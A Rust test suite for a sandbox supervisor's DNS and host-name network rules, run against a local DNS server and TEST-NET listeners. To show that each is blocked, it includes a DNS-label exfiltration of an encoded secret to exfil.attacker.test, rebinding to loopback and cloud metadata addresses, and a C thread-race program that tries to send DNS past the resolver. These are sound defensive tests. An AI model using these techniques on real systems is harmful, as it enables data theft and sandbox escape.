//! Host-name rules end to end: the real supervisor, its per-session resolver, a real DNS
//! server started by the test (it records every query it receives, so what leaves the machine
//! is checked from outside), and real listeners on TEST-NET addresses (198.51.100.0/24,
//! 2001:db8::/32) of a veth pair the test creates and deletes. No outside network.
//!
//! The agent is a small Python script (`getaddrinfo`, then connect or send); what it prints
//! is only used in failure messages: every verdict is read from the listeners and the DNS
//! server.

#[macro_use]
mod common;
use common::NoCi;

use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, UdpSocket};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use common::{bin, is_root, run_with_timeout, Result_, Workspace};
use hickory_proto::op::{Message, MessageType, ResponseCode};
use hickory_proto::rr::rdata::{A, AAAA};
use hickory_proto::rr::{RData, Record, RecordType};

/// Time limit of one supervised session.
const LIMIT: Duration = Duration::from_secs(40);
const PYTHON: &str = "/usr/bin/python3";

macro_rules! skip_unless_able {
    () => {
        skip_unless!(
            is_root(),
            "needs root (port 53, cgroups, eBPF, a veth pair)"
        );
        skip_unless!(Path::new(PYTHON).exists(), "needs /usr/bin/python3");
        skip_unless!(
            Path::new("/usr/sbin/ip").exists() || Path::new("/sbin/ip").exists(),
            "needs the ip command (iproute2)"
        );
        skip_unless!(
            veth_available(),
            "this kernel can't create veth pairs (no veth module: e.g. a vm-test guest)"
        );
    };
}

/// Can a veth pair be created here? Tries one (named after this process) and deletes it.
fn veth_available() -> bool {
    static AVAILABLE: std::sync::OnceLock<bool> = std::sync::OnceLock::new();
    *AVAILABLE.get_or_init(|| {
        let link = format!("asprobe{}", std::process::id() % 1_000_000);
        let created = Command::new("ip")
            .args(["link", "add", &link, "type", "veth", "peer", "name"])
            .arg(format!("{link}p"))
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if created {
            let _ = Command::new("ip")
                .args(["link", "del", &link])
                .stderr(Stdio::null())
                .status();
        }
        created
    })
}

// --- the upstream DNS server -----------------------------------------------------------------

/// A UDP DNS server on 127.0.0.1 (ephemeral port) answering from a fixed zone, NXDOMAIN for
/// anything else, recording every name it is asked.
struct Upstream {
    addr: SocketAddr,
    queries: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

type Zone = HashMap<String, Vec<(IpAddr, u32)>>;

impl Upstream {
    fn start(zone: &[(&str, IpAddr, u32)]) -> Upstream {
        let mut table: Zone = HashMap::new();
        for (name, ip, ttl) in zone {
            table.entry(name.to_string()).or_default().push((*ip, *ttl));
        }
        let socket = UdpSocket::bind("127.0.0.1:0").expect("bind the test DNS server");
        socket
            .set_read_timeout(Some(Duration::from_millis(100)))
            .expect("timeout");
        let addr = socket.local_addr().expect("addr");
        let queries = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let thread = {
            let (queries, stop) = (Arc::clone(&queries), Arc::clone(&stop));
            std::thread::spawn(move || serve(socket, table, queries, stop))
        };
        Upstream {
            addr,
            queries,
            stop,
            thread: Some(thread),
        }
    }

    /// Every name asked so far (lower case, no trailing dot).
    fn queries(&self) -> Vec<String> {
        self.queries.lock().unwrap().clone()
    }

    fn was_asked_containing(&self, needle: &str) -> bool {
        let needle = needle.to_ascii_lowercase();
        self.queries().iter().any(|q| q.contains(&needle))
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn serve(socket: UdpSocket, zone: Zone, queries: Arc<Mutex<Vec<String>>>, stop: Arc<AtomicBool>) {
    let mut buf = [0u8; 4096];
    while !stop.load(Ordering::SeqCst) {
        let Ok((n, peer)) = socket.recv_from(&mut buf) else {
            continue;
        };
        let Ok(query) = Message::from_vec(&buf[..n]) else {
            continue;
        };
        let Some(q) = query.queries().first().cloned() else {
            continue;
        };
        let name = q
            .name()
            .to_ascii()
            .trim_end_matches('.')
            .to_ascii_lowercase();
        queries.lock().unwrap().push(name.clone());
        let mut reply = Message::new();
        reply
            .set_id(query.id())
            .set_message_type(MessageType::Response)
            .set_op_code(query.op_code())
            .set_recursion_desired(query.recursion_desired())
            .set_recursion_available(true)
            .add_query(q.clone());
        match zone.get(&name) {
            None => {
                reply.set_response_code(ResponseCode::NXDomain);
            }
            Some(addresses) => {
                for (ip, ttl) in addresses {
                    let rdata = match (ip, q.query_type()) {
                        (IpAddr::V4(v4), RecordType::A) => RData::A(A(*v4)),
                        (IpAddr::V6(v6), RecordType::AAAA) => RData::AAAA(AAAA(*v6)),
                        _ => continue,
                    };
                    reply.add_answer(Record::from_rdata(q.name().clone(), *ttl, rdata));
                }
            }
        }
        if let Ok(bytes) = reply.to_vec() {
            let _ = socket.send_to(&bytes, peer);
        }
    }
}

// --- TEST-NET addresses on a veth pair of our own ---------------------------------------------

static NEXT_NET: AtomicUsize = AtomicUsize::new(0);

/// A veth pair carrying 198.51.100.N and 2001:db8::N (N unique per test), deleted on drop.
struct TestNet {
    link: String,
    v4: IpAddr,
    v6: IpAddr,
}

impl TestNet {
    fn new() -> TestNet {
        let n = NEXT_NET.fetch_add(1, Ordering::SeqCst);
        let link = format!("asdns{}x{n}", std::process::id() % 100_000);
        let v4 = IpAddr::V4(Ipv4Addr::new(198, 51, 100, 10 + n as u8));
        let v6 = IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x10 + n as u16));
        let net = TestNet {
            link: link.clone(),
            v4,
            v6,
        };
        let peer = format!("{link}p");
        ip(&["link", "add", &link, "type", "veth", "peer", "name", &peer]);
        ip(&["addr", "add", &format!("{v4}/32"), "dev", &link]);
        ip(&[
            "-6",
            "addr",
            "add",
            &format!("{v6}/128"),
            "dev",
            &link,
            "nodad",
        ]);
        ip(&["link", "set", &link, "up"]);
        ip(&["link", "set", &peer, "up"]);
        net
    }
}

impl Drop for TestNet {
    fn drop(&mut self) {
        // Deleting one end deletes the pair and its addresses.
        let _ = Command::new("ip")
            .args(["link", "del", &self.link])
            .stderr(Stdio::null())
            .status();
    }
}

fn ip(args: &[&str]) {
    let st = Command::new("ip").args(args).status().expect("run ip");
    assert!(st.success(), "ip {args:?} failed");
}

/// A TCP listener that says whether anyone connected.
struct Tcp(TcpListener);

impl Tcp {
    fn on(ip: IpAddr) -> Tcp {
        let l = TcpListener::bind((ip, 0)).expect("bind listener");
        l.set_nonblocking(true).expect("nonblocking");
        Tcp(l)
    }
    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }
    fn reached(&self) -> bool {
        let mut reached = false;
        while self.0.accept().is_ok() {
            reached = true;
        }
        reached
    }
}

// --- the agent ---------------------------------------------------------------------------------

/// `agent.py ACTION...`: each action is `connect NAME PORT FAMILY`, `send NAME PORT FAMILY`
/// (UDP sendto without connect), `connect-ip IP PORT`, `sleep SECONDS` or
/// `dns-direct SERVER NAME` (a query straight to another server). Prints one line per action.
const AGENT: &str = r#"
import socket, struct, sys, time
args = sys.argv[1:]
def fam(f): return socket.AF_INET6 if f == "6" else socket.AF_INET
while args:
    op = args.pop(0)
    try:
        if op in ("connect", "send"):
            name, port, f = args.pop(0), int(args.pop(0)), args.pop(0)
            kind = socket.SOCK_STREAM if op == "connect" else socket.SOCK_DGRAM
            infos = socket.getaddrinfo(name, port, fam(f), kind)
            s = socket.socket(fam(f), kind)
            s.settimeout(3)
            if op == "connect":
                s.connect(infos[0][4])
            else:
                s.sendto(b"hello", infos[0][4])
            print(op, name, "ok", infos[0][4][0], flush=True)
        elif op == "connect-ip":
            ip, port = args.pop(0), int(args.pop(0))
            s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET)
            s.settimeout(3)
            s.connect((ip, port))
            print(op, ip, "ok", flush=True)
        elif op == "tfo":
            name, port = args.pop(0), int(args.pop(0))
            addr = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)[0][4]
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(3)
            s.sendto(b"fastopen", socket.MSG_FASTOPEN, addr)
            print(op, name, "ok", flush=True)
        elif op == "tfo-ip":
            ip, port = args.pop(0), int(args.pop(0))
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(3)
            s.sendto(b"fastopen", socket.MSG_FASTOPEN, (ip, port))
            print(op, ip, "ok", flush=True)
        elif op == "connect-mapped":
            name, port = args.pop(0), int(args.pop(0))
            v4 = socket.getaddrinfo(name, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.settimeout(3)
            s.connect(("::ffff:" + v4, port))
            print(op, name, "ok", flush=True)
        elif op == "tcp-dns":
            name = args.pop(0)
            server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
            q = struct.pack(">HHHHHH", 0x4321, 0x0100, 1, 0, 0, 0)
            for label in name.split("."):
                q += bytes([len(label)]) + label.encode()
            q += b"\0" + struct.pack(">HH", 1, 1)
            s = socket.create_connection((server, 53), timeout=3)
            s.sendall(struct.pack(">H", len(q)) + q)
            n = struct.unpack(">H", s.recv(2))[0]
            r = b""
            while len(r) < n:
                r += s.recv(n - len(r))
            print(op, name, "rcode", r[3] & 15, "answers", struct.unpack(">H", r[6:8])[0], flush=True)
        elif op == "sleep":
            time.sleep(float(args.pop(0)))
        elif op == "dns-direct":
            server, name = args.pop(0), args.pop(0)
            host, port = server.rsplit(":", 1)
            q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
            for label in name.split("."):
                q += bytes([len(label)]) + label.encode()
            q += b"\0" + struct.pack(">HH", 1, 1)
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(2)
            s.sendto(q, (host, int(port)))
            print(op, name, "sent", len(s.recv(512)), flush=True)
    except Exception as e:
        print(op, "failed", type(e).__name__, e, flush=True)
"#;

fn policy(extra: &str) -> String {
    format!("version = 1\nextends = \"sandboxed\"\ndefault = \"deny\"\napproval_timeout = \"20s\"\n{extra}")
}

/// Run the agent under the supervisor with `policy` and `upstream` as its DNS server.
fn run_agent(
    ws: &Workspace,
    policy_text: &str,
    upstream: &Upstream,
    extra: &[&str],
    actions: &[&str],
) -> Result_ {
    let agent = ws.write("agent.py", AGENT);
    let policy = ws.policy(policy_text);
    let upstream_flag = upstream.addr.to_string();
    let mut args = vec![
        "--headless",
        "--policy",
        policy.to_str().unwrap(),
        "--dns-upstream",
        &upstream_flag,
        "--dns-grace",
        "1s",
    ];
    args.extend_from_slice(extra);
    let mut cmd = vec![PYTHON, agent.to_str().unwrap()];
    cmd.extend_from_slice(actions);
    let r = ws.run(&args, &cmd, LIMIT);
    assert!(!r.timed_out, "the session hit the time limit\n{}", show(&r));
    r
}

fn show(r: &Result_) -> String {
    format!(
        "exit code {:?}\n--- stdout\n{}\n--- stderr\n{}",
        r.code, r.stdout, r.stderr
    )
}

/// The audit's connect decisions to `ip:port`.
fn connect_decisions(ws: &Workspace, dest: SocketAddr) -> Vec<serde_json::Value> {
    let dest = dest.to_string();
    ws.audit()
        .into_iter()
        .filter(|r| r["kind"] == "connect" || r["kind"] == "send")
        .filter(|r| r["action"]["destination"] == dest.as_str())
        .collect()
}

// --- the cases ---------------------------------------------------------------------------------

#[test]
fn an_allowed_name_connects_and_the_audit_names_the_host() {
    skip_unless_able!();
    let net = TestNet::new();
    let listener = Tcp::on(net.v4);
    let upstream = Upstream::start(&[("api.example.test", net.v4, 300)]);
    let ws = Workspace::new("dns-allowed");
    let rule = format!(
        "[[rule]]\ndecision = \"allow\"\nnetwork = \"api.example.test:{}\"\n",
        listener.port()
    );
    let r = run_agent(
        &ws,
        &policy(&rule),
        &upstream,
        &[],
        &[
            "connect",
            "api.example.test",
            &listener.port().to_string(),
            "4",
        ],
    );
    assert!(
        listener.reached(),
        "the allowed name did not connect\n{}",
        show(&r)
    );
    assert!(upstream.was_asked_containing("api.example.test"));
    let d = connect_decisions(&ws, SocketAddr::new(net.v4, listener.port()));
    assert!(
        d.iter()
            .any(|r| r["decision"] == "allow" && r["action"]["host"] == "api.example.test"),
        "the audit does not name the host: {d:?}"
    );
}

#[test]
fn a_denied_name_gets_no_answer_and_never_reaches_the_upstream() {
    skip_unless_able!();
    let net = TestNet::new();
    let listener = Tcp::on(net.v4);
    let upstream = Upstream::start(&[("blocked.example.test", net.v4, 300)]);
    let ws = Workspace::new("dns-denied");
    let rules = format!(
        "[network]\ndeny = [\"blocked.example.test\"]\nallow = [\"{}:{}\"]\n",
        "api.example.test",
        listener.port()
    );
    let r = run_agent(
        &ws,
        &policy(&rules),
        &upstream,
        &[],
        &[
            "connect",
            "blocked.example.test",
            &listener.port().to_string(),
            "4",
        ],
    );
    assert!(!listener.reached(), "a denied name connected\n{}", show(&r));
    assert!(
        r.stdout.contains("connect failed gaierror"),
        "the lookup should have failed\n{}",
        show(&r)
    );
    assert!(
        !upstream.was_asked_containing("blocked"),
        "a denied name was forwarded: {:?}",
        upstream.queries()
    );
    assert!(ws.audit().iter().any(|r| r["kind"] == "resolve"
        && r["decision"] == "deny"
        && r["action"]["name"] == "blocked.example.test"));
}

#[test]
fn query_label_exfiltration_never_reaches_the_upstream() {
    skip_unless_able!();
    let upstream = Upstream::start(&[]);
    let ws = Workspace::new("dns-exfil");
    let secret = "c2VjcmV0LWtleS0xMjM0";
    let exfil = format!("{secret}.exfil.attacker.test");
    // Through the resolver, then straight to the upstream server on port 53 and on its real
    // port, as a program that ignores resolv.conf would.
    let direct_53 = "127.0.0.1:53".to_string();
    let r = run_agent(
        &ws,
        &policy("[network]\nallow = [\"*.example.test:443\"]\n"),
        &upstream,
        &[],
        &[
            "connect",
            &exfil,
            "443",
            "4",
            "dns-direct",
            &direct_53,
            &exfil,
            "dns-direct",
            &upstream.addr.to_string(),
            &exfil,
        ],
    );
    assert!(
        !upstream.was_asked_containing(secret),
        "the secret reached the upstream resolver: {:?}\n{}",
        upstream.queries(),
        show(&r)
    );
    assert!(
        r.stdout.matches("dns-direct failed").count() == 2,
        "direct DNS should have been refused\n{}",
        show(&r)
    );
}

#[test]
fn a_literal_ip_of_an_allowed_name_is_refused_until_the_session_resolves_it() {
    skip_unless_able!();
    let net = TestNet::new();
    let listener = Tcp::on(net.v4);
    let upstream = Upstream::start(&[("api.example.test", net.v4, 300)]);
    let ws = Workspace::new("dns-literal");
    let port = listener.port().to_string();
    let rule = format!("[network]\nallow = [\"api.example.test:{port}\"]\n");
    let r = run_agent(
        &ws,
        &policy(&rule),
        &upstream,
        &[],
        &["connect-ip", &net.v4.to_string(), &port],
    );
    assert!(
        !listener.reached(),
        "the literal IP connected\n{}",
        show(&r)
    );
    let d = connect_decisions(&ws, SocketAddr::new(net.v4, listener.port()));
    assert!(
        d.iter().all(|r| r["decision"] == "deny") && !d.is_empty(),
        "{d:?}"
    );
}

#[test]
fn an_expired_answer_stops_new_connections() {
    skip_unless_able!();
    let net = TestNet::new();
    let listener = Tcp::on(net.v4);
    let upstream = Upstream::start(&[("short.example.test", net.v4, 1)]);
    let ws = Workspace::new("dns-expiry");
    let port = listener.port().to_string();
    let rule = format!("[network]\nallow = [\"short.example.test:{port}\"]\n");
    // TTL 1 s + grace 1 s: connected right away, refused 4 s later (without a new lookup).
    let r = run_agent(
        &ws,
        &policy(&rule),
        &upstream,
        &[],
        &[
            "connect",
            "short.example.test",
            &port,
            "4",
            "sleep",
            "4",
            "connect-ip",
            &net.v4.to_string(),
            &port,
        ],
    );
    assert!(
        listener.reached(),
        "the first connect must work\n{}",
        show(&r)
    );
    let d = connect_decisions(&ws, SocketAddr::new(net.v4, listener.port()));
    let decisions: Vec<&str> = d.iter().map(|r| r["decision"].as_str().unwrap()).collect();
    assert_eq!(decisions, ["allow", "deny"], "{d:?}\n{}", show(&r));
    assert!(
        !listener.reached(),
        "the expired address connected again\n{}",
        show(&r)
    );
}

#[test]
fn a_name_rebound_to_loopback_or_metadata_is_refused() {
    skip_unless_able!();
    let loopback = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    loopback.set_nonblocking(true).unwrap();
    let port = loopback.local_addr().unwrap().port();
    let upstream = Upstream::start(&[
        ("rebind.example.test", "127.0.0.1".parse().unwrap(), 300),
        ("meta.example.test", "169.254.169.254".parse().unwrap(), 300),
    ]);
    let ws = Workspace::new("dns-rebind");
    let r = run_agent(
        &ws,
        &policy("[network]\nallow = [\"*.example.test\"]\n"),
        &upstream,
        &[],
        &[
            "connect",
            "rebind.example.test",
            &port.to_string(),
            "4",
            "connect",
            "meta.example.test",
            "80",
            "4",
        ],
    );
    assert!(
        loopback.accept().is_err(),
        "the rebound name reached loopback\n{}",
        show(&r)
    );
    assert!(upstream.was_asked_containing("rebind.example.test"));
    let answers: Vec<serde_json::Value> = ws
        .audit()
        .into_iter()
        .filter(|r| r["kind"] == "dns-answer")
        .collect();
    let refused: Vec<String> = answers
        .iter()
        .flat_map(|a| {
            a["action"]["refused"]
                .as_array()
                .cloned()
                .unwrap_or_default()
        })
        .filter_map(|x| x["range"].as_str().map(str::to_string))
        .collect();
    assert!(
        refused.iter().any(|r| r == "loopback") && refused.iter().any(|r| r == "cloud metadata"),
        "{answers:?}\n{}",
        show(&r)
    );
}

#[test]
fn ipv6_and_udp_paths_follow_the_name_rules() {
    skip_unless_able!();
    let net = TestNet::new();
    let tcp6 = Tcp::on(net.v6);
    let udp4 = UdpSocket::bind((net.v4, 0)).unwrap();
    udp4.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let udp_port = udp4.local_addr().unwrap().port();
    let upstream = Upstream::start(&[
        ("v6.example.test", net.v6, 300),
        ("udp.example.test", net.v4, 300),
        ("other.example.test", net.v4, 300),
    ]);
    let ws = Workspace::new("dns-v6-udp");
    let rules = format!(
        "[network]\nallow = [\"v6.example.test:{}\", \"udp.example.test:{udp_port}\"]\n",
        tcp6.port()
    );
    let r = run_agent(
        &ws,
        &policy(&rules),
        &upstream,
        &[],
        &[
            "connect",
            "v6.example.test",
            &tcp6.port().to_string(),
            "6",
            "send",
            "udp.example.test",
            &udp_port.to_string(),
            "4",
        ],
    );
    assert!(
        tcp6.reached(),
        "IPv6 connect to an allowed name failed\n{}",
        show(&r)
    );
    let mut buf = [0u8; 16];
    assert!(
        matches!(udp4.recv_from(&mut buf), Ok((5, _))),
        "the UDP datagram to an allowed name did not arrive\n{}",
        show(&r)
    );
    // Another name on the same address but no rule: refused, datagram never sent.
    let r = run_agent(
        &ws,
        &policy(&rules),
        &upstream,
        &[],
        &["send", "other.example.test", &udp_port.to_string(), "4"],
    );
    assert!(
        udp4.recv_from(&mut buf).is_err(),
        "a datagram for a name without a rule arrived\n{}",
        show(&r)
    );
}

#[test]
fn tcp_fast_open_and_ipv4_mapped_connects_follow_the_name_rules() {
    skip_unless_able!();
    let net = TestNet::new();
    let (tfo, mapped, unlisted) = (Tcp::on(net.v4), Tcp::on(net.v4), Tcp::on(net.v4));
    let upstream = Upstream::start(&[("fast.example.test", net.v4, 300)]);
    let ws = Workspace::new("dns-tfo");
    let rules = format!(
        "[network]\nallow = [\"fast.example.test:{}\", \"fast.example.test:{}\"]\n",
        tfo.port(),
        mapped.port()
    );
    let r = run_agent(
        &ws,
        &policy(&rules),
        &upstream,
        &[],
        &[
            "tfo",
            "fast.example.test",
            &tfo.port().to_string(),
            "connect-mapped",
            "fast.example.test",
            &mapped.port().to_string(),
            // Resolved, but no rule for this port: refused, by TFO and by a v4-mapped connect.
            "tfo-ip",
            &net.v4.to_string(),
            &unlisted.port().to_string(),
            "connect-mapped",
            "fast.example.test",
            &unlisted.port().to_string(),
        ],
    );
    assert!(
        tfo.reached(),
        "TCP Fast Open to an allowed name failed\n{}",
        show(&r)
    );
    assert!(
        mapped.reached(),
        "a v4-mapped connect to an allowed name failed\n{}",
        show(&r)
    );
    assert!(
        !unlisted.reached(),
        "a port no rule names was reached\n{}",
        show(&r)
    );
}

#[test]
fn dns_over_tcp_to_the_resolver_forwards_allowed_names_only() {
    skip_unless_able!();
    let upstream = Upstream::start(&[("tcp.example.test", "198.51.100.200".parse().unwrap(), 60)]);
    let ws = Workspace::new("dns-tcp");
    let r = run_agent(
        &ws,
        &policy("[network]\nallow = [\"tcp.example.test:443\"]\n"),
        &upstream,
        &[],
        &[
            "tcp-dns",
            "tcp.example.test",
            "tcp-dns",
            "tcp-denied.example.test",
        ],
    );
    assert!(
        upstream.was_asked_containing("tcp.example.test"),
        "the allowed name was not forwarded over the TCP path\n{}",
        show(&r)
    );
    assert!(
        !upstream.was_asked_containing("tcp-denied"),
        "a denied name was forwarded\n{}",
        show(&r)
    );
    assert!(
        r.stdout
            .contains("tcp-dns tcp.example.test rcode 0 answers 1")
            && r.stdout
                .contains("tcp-dns tcp-denied.example.test rcode 5 answers 0"),
        "{}",
        show(&r)
    );
}

/// Four threads send DNS queries for `NAME` (sendto, or connect + send on UDP and TCP) to a
/// shared sockaddr that a fifth thread flips between the session resolver and a decoy
/// server on port 53. Prints `ok=N failed=M`.
const RACE_DNS_C: &str = r#"
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static struct sockaddr_in shared;
static volatile int stop;
static in_addr_t resolver, decoy;
static unsigned char q[300];
static int qlen;
static const char *mode;
static long ok[4], failed[4];

static void *flip(void *arg) {
    volatile in_addr_t *a = &shared.sin_addr.s_addr;
    while (!stop) { *a = resolver; *a = decoy; }
    return arg;
}

static void *attack(void *arg) {
    long i = (long)arg;
    int udp = socket(AF_INET, SOCK_DGRAM, 0);
    while (!stop) {
        long r;
        if (!strcmp(mode, "sendto")) {
            r = sendto(udp, q, qlen, 0, (struct sockaddr *)&shared, sizeof shared);
        } else {
            int tcp = !strcmp(mode, "tcp");
            int s = socket(AF_INET, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
            struct timeval tv = { .tv_sec = 0, .tv_usec = 200000 };
            setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
            r = connect(s, (struct sockaddr *)&shared, sizeof shared);
            if (r == 0) {
                unsigned char framed[302];
                framed[0] = qlen >> 8; framed[1] = qlen & 255;
                memcpy(framed + 2, q, qlen);
                r = tcp ? send(s, framed, qlen + 2, 0) : send(s, q, qlen, 0);
            }
            close(s);
        }
        if (r >= 0) ok[i]++; else failed[i]++;
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 5) return 2;
    mode = argv[1];
    FILE *f = fopen("/etc/resolv.conf", "r");
    char line[256], ns[64] = "";
    while (f && fgets(line, sizeof line, f)) sscanf(line, "nameserver %63s", ns);
    if (f) fclose(f);
    resolver = inet_addr(ns);
    decoy = inet_addr(argv[2]);
    const char *name = argv[3];
    unsigned char hdr[12] = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
    memcpy(q, hdr, 12); qlen = 12;
    for (const char *p = name; *p;) {
        const char *dot = strchr(p, '.');
        int n = dot ? dot - p : (int)strlen(p);
        q[qlen++] = n; memcpy(q + qlen, p, n); qlen += n;
        p += n + (dot ? 1 : 0);
    }
    q[qlen++] = 0; q[qlen++] = 0; q[qlen++] = 1; q[qlen++] = 0; q[qlen++] = 1;
    shared.sin_family = AF_INET;
    shared.sin_port = htons(53);
    shared.sin_addr.s_addr = resolver;
    pthread_t t_flip, t[4];
    pthread_create(&t_flip, 0, flip, 0);
    for (long i = 0; i < 4; i++) pthread_create(&t[i], 0, attack, (void *)i);
    usleep(atoi(argv[4]) * 1000);
    stop = 1;
    pthread_join(t_flip, 0);
    long o = 0, x = 0;
    for (int i = 0; i < 4; i++) { pthread_join(t[i], 0); o += ok[i]; x += failed[i]; }
    printf("%s ok=%ld failed=%ld\n", mode, o, x);
    return 0;
}
"#;

#[test]
fn racing_threads_cannot_send_dns_past_the_session_resolver() {
    skip_unless_able!();
    let pid = std::process::id();
    let decoy_ip = Ipv4Addr::new(127, 56, (pid >> 8) as u8, pid as u8 | 1);
    let decoy_udp = UdpSocket::bind((decoy_ip, 53)).expect("bind the decoy (udp 53)");
    decoy_udp
        .set_read_timeout(Some(Duration::from_millis(100)))
        .unwrap();
    let decoy_tcp = TcpListener::bind((decoy_ip, 53)).expect("bind the decoy (tcp 53)");
    decoy_tcp.set_nonblocking(true).unwrap();
    let upstream = Upstream::start(&[("race.example.test", "198.51.100.201".parse().unwrap(), 60)]);
    let ws = Workspace::new("dns-race");
    let racer = common::compile_c(&ws.dir, "race_dns", RACE_DNS_C, &["-pthread"]);
    skip_unless!(racer.is_some(), "needs a C compiler (cc)");
    let racer = racer.unwrap();
    let policy_text = policy(
        // The decoy's address is allowed by an IP rule: only the port-53 rule stops it.
        "[network]\nallow = [\"race.example.test:443\", \"127.56.0.0/16:*\"]\n\
         [[rule]]\ndecision = \"allow\"\ncommand = \"{workspace}/race_dns\"\n",
    );
    let decoy = decoy_ip.to_string();
    let mut outputs = String::new();
    // With the kernel hooks and without them (--no-ebpf): the supervisor alone must hold.
    for ebpf in [&[][..], &["--no-ebpf"][..]] {
        for mode in ["sendto", "udp", "tcp"] {
            let policy_path = ws.policy(&policy_text);
            let upstream_flag = upstream.addr.to_string();
            let mut args = vec![
                "--headless",
                "--policy",
                policy_path.to_str().unwrap(),
                "--dns-upstream",
                &upstream_flag,
            ];
            args.extend_from_slice(ebpf);
            let r = ws.run(
                &args,
                &[
                    racer.to_str().unwrap(),
                    mode,
                    &decoy,
                    "race.example.test",
                    "400",
                ],
                LIMIT,
            );
            assert!(!r.timed_out && r.code == Some(0), "{}", show(&r));
            outputs.push_str(&r.stdout);
        }
    }
    let mut buf = [0u8; 512];
    assert!(
        decoy_udp.recv_from(&mut buf).is_err(),
        "a racing thread got a DNS datagram to another server\n{outputs}"
    );
    assert!(
        decoy_tcp.accept().is_err(),
        "a racing thread reached another DNS server over TCP\n{outputs}"
    );
    assert!(
        upstream.was_asked_containing("race.example.test"),
        "no query went through the resolver (did the race run?)\n{outputs}"
    );
    eprintln!("{outputs}");
    assert!(
        outputs.lines().all(|l| !l.contains(" ok=0 ")),
        "each mode must have got queries to the resolver through\n{outputs}"
    );
}

#[test]
fn ask_on_a_name_prompts_once_and_remembers_always() {
    skip_unless_able!();
    skip_unless!(Path::new("/dev/ptmx").exists(), "needs pseudo-terminals");
    let net = TestNet::new();
    let listener = Tcp::on(net.v4);
    let upstream = Upstream::start(&[("ask.example.test", net.v4, 300)]);
    let ws = Workspace::new("dns-ask");
    let port = listener.port().to_string();
    let rules = format!("[[rule]]\ndecision = \"ask\"\nnetwork = \"ask.example.test:{port}\"\n");
    let agent = ws.write("agent.py", AGENT);
    let policy_path = ws.policy(&policy(&rules));
    let driver = ws.write("pty_driver.py", common::PTY_DRIVER);
    // Two lookups and two connects; the one prompt is answered "a" (always this session).
    let mut c = Command::new(PYTHON);
    c.arg(&driver)
        .arg("a")
        .arg(LIMIT.as_secs().to_string())
        .arg(bin())
        .args(["run", "-q", "--audit"])
        .arg(&ws.audit)
        .args(["--policy", policy_path.to_str().unwrap()])
        .args(["--dns-upstream", &upstream.addr.to_string()])
        .arg("--")
        .args([PYTHON, agent.to_str().unwrap()])
        .args(["connect", "ask.example.test", &port, "4"])
        .args(["connect", "ask.example.test", &port, "4"]);
    c.current_dir(&ws.dir).stdin(Stdio::null()).no_ci();
    let r = run_with_timeout(c, LIMIT + Duration::from_secs(10));
    assert!(
        !r.timed_out && r.code == Some(0),
        "pty driver: {}",
        show(&r)
    );
    let v: serde_json::Value = serde_json::from_str(r.stdout.trim()).expect("driver JSON");
    assert_eq!(v["prompts"], 1, "exactly one prompt expected: {v}");
    let out = v["out"].as_str().unwrap_or_default();
    assert!(
        out.contains("look up a host name") && out.contains("ask.example.test"),
        "the prompt must name the host: {out}"
    );
    assert!(
        listener.reached(),
        "the approved name did not connect: {out}"
    );
    let d = connect_decisions(&ws, SocketAddr::new(net.v4, listener.port()));
    assert!(
        d.len() == 2 && d.iter().all(|r| r["decision"] == "allow"),
        "{d:?}"
    );
}
